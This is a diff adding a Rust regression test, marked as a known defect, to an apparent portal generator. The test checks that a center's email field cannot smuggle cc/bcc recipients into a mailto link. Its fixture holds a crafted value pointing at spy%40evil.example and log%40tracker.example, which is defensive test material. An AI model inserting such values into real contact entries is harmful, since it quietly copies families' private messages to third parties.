@@ -646,3 +646,36 @@ fn the_search_module_imports_nothing() {
         "{path} imports {imports} functions/values from JS: it could reach the network through them"
     );
 }
+
+/// An entry's `email` becomes a `mailto:` link a family taps to write to
+/// the center. Header fields in it (`?cc=`, `?bcc=`, with the second `@`
+/// percent-encoded) would send a copy of that message to someone else.
+#[test]
+#[ignore = "defect: `email: soudan@center.example.jp?cc=spy%40evil.example&bcc=log%40tracker.example` is accepted (model/contact.rs Email::parse allows `?`, `=`, `&`, `%`) and rendered as href=\"mailto:soudan@center.example.jp?cc=spy%40evil.example&bcc=…\": a family's message is copied to third parties"]
+fn an_entry_email_cannot_add_recipients() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("portal");
+    copy_dir(&repo().join("tests/fixtures/portals/small"), &root);
+    std::fs::write(
+        root.join("content/centers/mail.md"),
+        "---\nname: メール窓口\nkana: めーるまどぐち\nemail: soudan@center.example.jp?cc=spy%40evil.example&bcc=log%40tracker.example\nverified: 2026-10-01\n---\n",
+    )
+    .unwrap();
+    let out = tmp.path().join("public");
+    let o = build(&root, &out);
+    if !o.status.success() {
+        // Refused: the right outcome, if it names the field.
+        let stderr = String::from_utf8_lossy(&o.stderr);
+        assert!(stderr.contains("email"), "{stderr}");
+        return;
+    }
+    let page = std::fs::read_to_string(out.join("centers/mail/index.html")).unwrap();
+    let doc = Html::parse_document(&page);
+    for a in doc.select(&sel("a[href^='mailto:']")) {
+        let href = a.value().attr("href").unwrap().to_ascii_lowercase();
+        assert!(
+            !href.contains("cc=") && !href.contains("bcc=") && !href.contains("to="),
+            "a mailto link adds recipients: {href}"
+        );
+    }
+}
